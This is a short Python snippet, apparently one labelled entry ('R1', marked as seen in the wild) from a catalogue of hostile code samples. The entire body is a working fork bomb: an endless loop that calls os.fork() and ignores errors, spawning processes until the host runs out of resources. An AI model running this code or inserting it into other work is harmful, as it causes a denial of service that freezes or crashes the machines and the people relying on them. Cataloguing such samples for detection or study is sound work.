# R1: fork for ever
# wild: yes
while True:
    with contextlib.suppress(OSError):
        os.fork()
